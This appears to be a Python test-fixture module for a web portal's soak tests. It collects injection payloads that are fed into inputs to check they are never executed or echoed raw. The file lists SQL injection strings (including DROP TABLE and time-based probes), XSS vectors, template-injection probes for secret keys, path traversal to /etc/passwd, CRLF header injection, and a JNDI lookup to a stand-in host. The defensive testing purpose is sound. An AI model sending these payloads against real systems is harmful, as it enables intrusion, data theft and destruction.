"""What is put where something harmless is expected, by what it is after. ``zq9`` marks what must not come back raw."""

from antt_portal.soak._odd_values import DATES, LONG, NUL, NUMBERS, TYPES, UNICODE

MARK = "zq9"
PRODUCT = "62616533"  # what 7919*7907 comes to, should anybody compute it
SHOUTED = "ZQ9SHOUT"  # what |upper makes of zq9shout

SQL = (
    *("'", '"', "')", "';--", "' OR '1'='1", '" OR ""="', "1' OR 1=1 -- zq9", "1) OR (1=1", "admin'--", "' AND '1'='2"),
    *(
        "1; DROP TABLE core_blob; --",
        "1'; SELECT pg_sleep(2); --",
        "1 AND (SELECT 1 FROM pg_sleep(2))",
        "' || pg_sleep(2) --",
    ),
    *(
        "' UNION SELECT NULL,NULL,NULL --",
        "1 UNION ALL SELECT usename FROM pg_user",
        "' AND 1=CAST(version() AS int) --",
    ),
    *(
        "%' AND '%'='",
        "\\' OR 1=1 --",
        "0x31 OR 1=1",
        "1/**/OR/**/1=1",
        "' OR SLEEP(2)='",
        "'; COPY (SELECT 1) TO '/x'; --",
    ),
    *(
        "%",
        "_",
        "%%%%%%%%%%",
        "\\",
        "\\\\%",
        "' ESCAPE '",
        "$$zq9$$",
        "E'\\x27'",
        "(SELECT 1)",
        "id",
        "-id",
        "?",
        "pk__gt",
    ),
)
SCRIPT = (
    *("<script>zq9(1)</script>", "<img src=x onerror=zq9(1)>", "<svg/onload=zq9(1)>", '"><script>zq9(1)</script>'),
    *(
        "'><img src=x onerror=zq9(1)>",
        '" autofocus onfocus="zq9(1)',
        "' onmouseover='zq9(1)",
        "</textarea><script>zq9</script>",
    ),
    *(
        "</title><script>zq9</script>",
        "<iframe srcdoc='<b>zq9</b>'>",
        "<a href='javascript:zq9(1)'>x</a>",
        "javascript:zq9(1)",
    ),
    *(
        "JaVaScRiPt:zq9(1)",
        "data:text/html,<script>zq9(1)</script>",
        "<math><mi xlink:href='data:x,zq9'>",
        "<!--zq9--><x>",
    ),
    *(
        "<ScRiPt>zq9(1)</sCrIpT>",
        "<img/src='x'/onerror=zq9(1)>",
        "<body onload=zq9(1)>",
        "<style>@import'zq9';</style>",
    ),
    *("\u003cscript\u003ezq9\u003c/script\u003e", "<scr<script>ipt>zq9</script>", "<base href='//zq9.example/'>"),
    *("</script><script>zq9(1)</script>", "<form action='//zq9.example'>", "<meta http-equiv=refresh content='0;zq9'>"),
)
TEMPLATE = (
    *(
        "{{7919*7907}}",
        "${7919*7907}",
        "#{7919*7907}",
        "<%= 7919*7907 %>",
        "{{ 'zq9shout'|upper }}",
        '{{"zq9shout"|upper}}',
    ),
    *(
        "{% debug %}",
        "{% include 'base.html' %}",
        "{{ settings.SECRET_KEY }}",
        "{{ request.user.password }}",
        "{% load zq9 %}",
    ),
    *(
        "{{ ''.__class__.__mro__ }}",
        "%(zq9)s",
        "%s%s%s%n",
        "{0.__class__}",
        "{zq9}",
        "%d",
        "${jndi:ldap://zq9.example/a}",
    ),
)
PATHS = (
    *(
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "....//....//etc/passwd",
    ),
    *(
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc/passwd",
        "C:\\boot.ini",
        "\\\\zq9.example\\share",
        "//zq9.example",
    ),
    *(
        ".git/config",
        "manage.py",
        "/proc/self/environ",
        "php://filter/resource=index",
        "../settings/production.py",
        ".",
    ),
)
HEADERS = (
    *(
        "zq9\r\nSet-Cookie: zq9=1",
        "zq9\nX-Zq9: 1",
        "zq9%0d%0aX-Zq9:%201",
        "zq9\r\n\r\n<html>zq9</html>",
        "zq9\u2028X-Zq9: 1",
    ),
    *("https://zq9.example/", "//zq9.example", "/\\zq9.example", "https:zq9.example", "\thttps://zq9.example"),
)
PAYLOADS: dict[str, tuple[str, ...]] = {
    "sql": SQL,
    "script": SCRIPT,
    "template": TEMPLATE,
    "path": PATHS,
    "header": HEADERS,
    "nul": NUL,
    "unicode": UNICODE,
    "long": LONG,
    "number": NUMBERS,
    "date": DATES,
    "type": TYPES,
}
